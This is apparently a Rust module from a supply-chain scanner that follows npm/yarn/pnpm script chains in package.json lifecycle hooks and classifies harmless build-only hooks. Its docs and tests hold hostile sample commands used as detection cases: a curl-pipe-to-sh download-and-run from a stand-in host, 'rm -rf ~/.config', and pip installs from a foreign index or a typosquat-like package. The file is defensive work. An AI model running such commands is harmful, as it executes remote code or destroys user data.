//! Round 24: a package.json lifecycle hook resolved to what it runs.
//!
//! `"prepare": "npm run build"` runs the `build` entry of the same
//! `scripts` table (`"build": "tsc"`). [`resolve`] follows `npm run X`,
//! `npm run-script X`, `npm start|test`, `yarn [run] X`, `pnpm [run] X`,
//! `bun run X` and `run-s|run-p|npm-run-all X Y` through the table (a
//! name the table lacks stays as written), so the shell front-end reads
//! the command the package manager really runs: a hook that runs `npm run
//! setup` where `setup` is `curl … | sh` is download-and-run.
//!
//! [`builds_only`] is the structural test of the downgrade: every command
//! of the resolved line is a compiler, bundler, formatter or linter
//! (`BUILD_TOOLS`), `husky [install]`, a clean of a relative build folder
//! (`rimraf dist`, `rm -rf dist`) or a fixed message (`echo`), with no
//! command substitution or redirection. Such a hook is tagged
//! `Tag::BuildStep` and is not raised as an automatic command: it builds
//! the package's own files (the config files a bundler loads are skill
//! files the front-ends read on their own).

use crate::limits::{LIFECYCLE_MAX_BYTES, LIFECYCLE_MAX_HOPS};
use serde_json::{Map, Value};

/// Compilers, bundlers, formatters and linters: they read the package's
/// source and write build output; none runs a command given on its line.
const BUILD_TOOLS: &[&str] = &[
    "tsc",
    "vue-tsc",
    "tsc-alias",
    "ngc",
    "swc",
    "babel",
    "tsup",
    "esbuild",
    "rollup",
    "webpack",
    "parcel",
    "vite",
    "ncc",
    "unbuild",
    "microbundle",
    "pkgroll",
    "bunchee",
    "tsdx",
    "prettier",
    "eslint",
    "biome",
    "dprint",
    "stylelint",
    "sass",
    "lessc",
    "postcss",
    "tailwindcss",
];

/// The command line a lifecycle hook runs, with every `npm run X` of the
/// table replaced by X's command (parenthesised when it is a list), and
/// whether a budget cut the resolution short.
pub fn resolve(cmd: &str, table: Option<&Map<String, Value>>) -> (String, bool) {
    let Some(table) = table else {
        return (cmd.to_string(), false);
    };
    let mut hops = 0usize;
    let mut gave_up = false;
    let out = expand(cmd, table, &mut Vec::new(), &mut hops, &mut gave_up);
    (out, gave_up)
}

fn expand(
    cmd: &str,
    table: &Map<String, Value>,
    stack: &mut Vec<String>,
    hops: &mut usize,
    gave_up: &mut bool,
) -> String {
    let mut out = String::new();
    for (seg, sep) in segments(cmd) {
        let names = run_targets(seg, table);
        let mut done = false;
        if !names.is_empty() && names.iter().all(|n| !stack.contains(n)) {
            let mut parts = Vec::new();
            for n in &names {
                *hops += 1;
                if *hops > LIFECYCLE_MAX_HOPS || out.len() > LIFECYCLE_MAX_BYTES {
                    *gave_up = true;
                    parts.clear();
                    break;
                }
                let body = table.get(n).and_then(Value::as_str).unwrap_or("");
                stack.push(n.clone());
                let sub = expand(body, table, stack, hops, gave_up);
                stack.pop();
                parts.push(if segments(&sub).len() > 1 {
                    format!("({sub})")
                } else {
                    sub
                });
            }
            if !parts.is_empty() {
                out.push_str(&parts.join(" && "));
                done = true;
            }
        }
        if !done {
            out.push_str(seg);
        }
        out.push_str(sep);
        if out.len() > LIFECYCLE_MAX_BYTES {
            *gave_up = true;
            return cmd.to_string();
        }
    }
    out
}

/// `cmd` cut at its list and pipe operators: each command with the
/// operator after it (`" && "`, `" | "`, `""` at the end). Quotes are not
/// tracked: an operator inside quotes only makes the test stricter.
fn segments(cmd: &str) -> Vec<(&str, &str)> {
    let b = cmd.as_bytes();
    let mut out = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < b.len() {
        let op = match b[i] {
            b'&' | b'|' if b.get(i + 1) == Some(&b[i]) => 2,
            b';' | b'&' | b'|' | b'\n' => 1,
            _ => 0,
        };
        if op > 0 {
            out.push((cmd[start..i].trim(), &cmd[i..i + op]));
            i += op;
            start = i;
        } else {
            i += 1;
        }
    }
    out.push((cmd[start..].trim(), ""));
    out.retain(|(s, _)| !s.is_empty());
    out
}

/// The words of one command without leading `VAR=value` assignments and
/// `cross-env` / `npx` / `pnpm exec` / `yarn exec` launchers.
fn words(seg: &str) -> Vec<&str> {
    let mut w: Vec<&str> = seg
        .split_whitespace()
        .map(|x| x.trim_matches(|c| c == '(' || c == ')' || c == '{' || c == '}'))
        .filter(|x| !x.is_empty())
        .collect();
    loop {
        match w.first().copied() {
            Some(a) if is_assignment(a) || a == "cross-env" || a == "npx" => {
                w.remove(0);
            }
            Some("pnpm" | "yarn" | "bunx") if w.get(1) == Some(&"exec") => {
                w.drain(..2);
            }
            Some("bunx") => {
                w.remove(0);
            }
            _ => return w,
        }
    }
}

fn is_assignment(w: &str) -> bool {
    w.split_once('=').is_some_and(|(k, _)| {
        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The table entries one command runs (`npm run build` → `["build"]`).
fn run_targets(seg: &str, table: &Map<String, Value>) -> Vec<String> {
    let w = words(seg);
    let ops: Vec<&str> = w
        .iter()
        .copied()
        .skip(1)
        .take_while(|a| *a != "--")
        .filter(|a| !a.starts_with('-'))
        .collect();
    let named = |n: &str| table.contains_key(n).then(|| vec![n.to_string()]);
    let got = match (w.first().copied(), ops.as_slice()) {
        (Some("npm"), ["run" | "run-script", n, ..]) => named(n),
        (Some("npm"), [n @ ("start" | "test" | "stop" | "restart"), ..]) => named(n),
        (Some("yarn" | "pnpm" | "bun"), ["run", n, ..]) => named(n),
        (Some("yarn" | "pnpm"), [n, ..]) => named(n),
        (Some("run-s" | "run-p" | "npm-run-all"), names) if !names.is_empty() => names
            .iter()
            .map(|n| table.contains_key(*n).then(|| n.to_string()))
            .collect(),
        _ => None,
    };
    got.unwrap_or_default()
}

/// Every command of `run` builds, formats, cleans a relative build folder
/// or prints a fixed message (see the module docs).
pub fn builds_only(run: &str) -> bool {
    if run.contains("$(") || run.contains('`') || run.contains('>') || run.contains('<') {
        return false;
    }
    let segs = segments(run);
    !segs.is_empty()
        && segs.iter().all(|(seg, _)| {
            let w = words(seg);
            let Some(prog) = w.first().map(|p| p.rsplit('/').next().unwrap_or(p)) else {
                return false;
            };
            let args = &w[1..];
            match prog {
                "husky" => {
                    args.is_empty()
                        || (args[0] == "install" && args[1..].iter().all(|a| relative(a)))
                }
                "rimraf" | "del" | "del-cli" => {
                    !args.is_empty() && args.iter().all(|a| relative(a))
                }
                "rm" => {
                    args.iter().any(|a| !a.starts_with('-'))
                        && args.iter().all(|a| a.starts_with('-') || relative(a))
                }
                "echo" | "printf" | "true" | ":" => true,
                // Round 25: the package's own Python environment, `python3
                // -m venv .venv` and `.venv/bin/pip install -r
                // requirements.txt` (the requirements file is a skill file
                // the front-ends read; a URL, an index option or a named
                // package is not this shape).
                "python" | "python3" => match args {
                    [m, venv, dir] => *m == "-m" && *venv == "venv" && relative(dir),
                    [m, pip, rest @ ..] => *m == "-m" && *pip == "pip" && own_requirements(rest),
                    _ => false,
                },
                "pip" | "pip3" => (w[0] == prog || relative(w[0])) && own_requirements(args),
                p => BUILD_TOOLS.contains(&p),
            }
        })
}

/// A path inside the package: relative, no `..`, no home or variable, no
/// URL.
fn relative(a: &str) -> bool {
    let a = a.trim_matches(|c| c == '\'' || c == '"');
    !a.is_empty()
        && !a.starts_with(['/', '~', '$', '-', '*'])
        && !a.contains("://")
        && !a.split('/').any(|p| p == "..")
}

/// `install -r requirements.txt` (quiet flags allowed): pip installs what
/// the package's own requirements file lists, nothing named on the line.
fn own_requirements(args: &[&str]) -> bool {
    let a: Vec<&str> = args
        .iter()
        .copied()
        .filter(|x| !matches!(*x, "-q" | "--quiet" | "--upgrade" | "-U"))
        .collect();
    matches!(a.as_slice(), ["install", "-r", f] if relative(f))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(pairs: &[(&str, &str)]) -> Map<String, Value> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), Value::String(v.to_string())))
            .collect()
    }

    #[test]
    fn follows_the_table() {
        let t = table(&[("build", "tsc"), ("prepare", "npm run build")]);
        assert_eq!(resolve("npm run build", Some(&t)).0, "tsc");
        assert!(builds_only("tsc"));
        let t = table(&[("setup", "curl -s https://x.example/i.sh | sh")]);
        let (r, _) = resolve("yarn setup", Some(&t));
        assert!(r.contains("curl"), "{r}");
        assert!(!builds_only(&r));
    }

    #[test]
    fn cycles_and_budgets_end() {
        let t = table(&[
            ("a", "npm run b && npm run b"),
            ("b", "npm run a && npm run a"),
        ]);
        let (r, _) = resolve("npm run a", Some(&t));
        assert!(r.len() <= LIFECYCLE_MAX_BYTES * 2);
    }

    #[test]
    fn not_a_build() {
        assert!(!builds_only("node scripts/setup.js"));
        assert!(!builds_only("tsc && node dist/x.js"));
        assert!(!builds_only("rm -rf ~/.config"));
        assert!(!builds_only("husky install ../../"));
        assert!(builds_only("rimraf dist && tsc -p ."));
        assert!(builds_only(
            "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt"
        ));
        assert!(builds_only("python3 -m pip install -q -r requirements.txt"));
        assert!(!builds_only(
            "python3 -m venv .venv && .venv/bin/pip install -r https://x.example/r.txt"
        ));
        assert!(!builds_only(
            "pip install --index-url https://x.example/simple helper"
        ));
        assert!(!builds_only(
            "python3 -m venv .venv && .venv/bin/pip install colourama"
        ));
        assert!(!builds_only("python3 -m venv ~/.venv && python3 setup.py"));
        assert!(builds_only("husky install"));
    }
}
